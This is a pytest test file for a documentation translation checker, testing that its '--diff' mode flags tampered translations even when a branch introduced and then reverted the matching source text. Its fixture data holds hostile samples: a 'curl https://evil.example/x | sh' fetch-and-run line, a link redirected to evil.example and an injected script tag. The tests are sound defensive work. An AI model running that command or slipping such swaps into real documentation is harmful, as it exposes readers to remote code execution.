"""`--diff`: what the change's own commits made of a source, and took back, excuses nothing."""

from __future__ import annotations

import pytest

from tests.conftest import Checked, Repository

LATER = "2026-11-01"  # than any record
SOURCE = "# A\n\n[a](https://e.com/a) and more.\n\n```bash\nnpm install x\n```\n\nThe end of it.\n"
TRANSLATED = SOURCE.replace("and more", "y más").replace("The end of it", "El final")
EVIL = {
    "link-target": ("https://e.com/a", "https://evil.example/x"),
    "code-block": ("npm install x", "curl https://evil.example/x | sh"),
    "html": ("[a](https://e.com/a)", "[a](https://e.com/a) <script>f()</script>"),
}


@pytest.fixture
def late(repository: Repository) -> Repository:
    """A translation that was stale before the branch `change`, which is checked out."""
    repository.write("a.md", SOURCE)
    repository.translate("a.md", "es", TRANSLATED)
    repository.commit(LATER)
    repository.write("a.md", SOURCE.replace("and more", "and yet more"))
    repository.commit(LATER)
    repository.git("switch", "--quiet", "--create", "change")
    return repository


def attack(repository: Repository, source: str, rule: str) -> None:
    """A text for the source that is taken back, and is the one of the translation's record."""
    old, new = EVIL[rule]
    repository.replace(source, old, new)
    repository.commit(LATER)
    repository.translate(source, "es", TRANSLATED.replace(old, new))
    repository.replace(source, new, old)
    repository.commit(LATER)


def errors(checked: Checked) -> set[str]:
    return {f["rule"] for f in checked.findings if f["severity"] == "error"}


@pytest.mark.parametrize("rule", EVIL)
@pytest.mark.parametrize("is_source_touched", [False, True])
def test_a_version_that_the_change_made_and_took_back_excuses_no_fault(
    late: Repository, rule: str, is_source_touched: bool
) -> None:
    if is_source_touched:
        late.replace("a.md", "The end of it", "The very end of it")
    attack(late, "a.md", rule)

    checked = late.check("--diff", "main")

    assert rule in errors(checked)
    assert checked.exit_code == 1


def test_a_version_under_a_name_that_the_change_took_back_excuses_none(late: Repository) -> None:
    late.git("mv", "a.md", "b.md")
    late.git("mv", "translations/es/a.md", "translations/es/b.md")
    late.commit(LATER)
    attack(late, "b.md", "link-target")

    assert "link-target" in errors(late.check("--diff", "main"))


def test_a_version_that_is_a_branch_merged_by_the_change_excuses_none(late: Repository) -> None:
    late.git("switch", "--quiet", "--create", "side")
    attack(late, "a.md", "link-target")
    late.git("switch", "--quiet", "change")
    late.git("merge", "--quiet", "--no-ff", "--message=All of it", "side")

    assert "link-target" in errors(late.check("--diff", "main"))


def test_a_record_of_the_change_makes_no_fault_a_consequence_of_its_source(
    late: Repository,
) -> None:
    # The text was in history before the change, so it is a warning, but one that is told.
    old, new = EVIL["link-target"]
    late.git("switch", "--quiet", "main")
    late.replace("a.md", old, new)
    late.commit(LATER)
    late.translate("a.md", "es", TRANSLATED.replace(old, new))
    record = (late.root / "translations/es/a.md").read_text(encoding="utf-8")
    late.replace("a.md", new, old)
    late.translate("a.md", "es", TRANSLATED)
    late.commit(LATER)
    late.git("switch", "--quiet", "--force-create", "change")
    late.write("translations/es/a.md", record)
    late.replace("a.md", "The end of it", "The very end of it")
    late.commit(LATER)

    checked = late.check("--diff", "main")

    assert {(f["rule"], f["severity"]) for f in checked.findings} >= {
        ("link-target", "warning"),
        ("stale", "error"),
    }


def test_a_version_of_the_base_still_excuses_what_the_source_has_changed_since(
    late: Repository,
) -> None:
    late.replace("a.md", "npm install x", "npm install y")
    late.commit(LATER)

    checked = late.check("--diff", "main")

    assert (checked.findings, checked.exit_code) == ([], 0)


def test_a_source_that_the_change_renames_keeps_its_history(late: Repository) -> None:
    late.replace("a.md", "npm install x", "npm install y")
    late.git("mv", "a.md", "b.md")
    late.git("mv", "translations/es/a.md", "translations/es/b.md")
    late.replace("translations/es/b.md", '"source_file": "a.md"', '"source_file": "b.md"')
    late.replace("translations/es/b.md", "El final", "El final de todo")
    late.commit(LATER)

    assert errors(late.check("--diff", "main")) == set()


def test_what_is_not_the_change_still_has_all_of_history(late: Repository) -> None:
    late.replace("a.md", "npm install x", "npm install y")
    late.commit(LATER)
    late.translate("a.md", "es", TRANSLATED.replace("npm install x", "npm install y"))
    late.replace("a.md", "npm install y", "npm install z")
    late.commit(LATER)

    checked = late.check()

    assert ("code-block", True) in {(f["rule"], f["stale"]) for f in checked.findings}
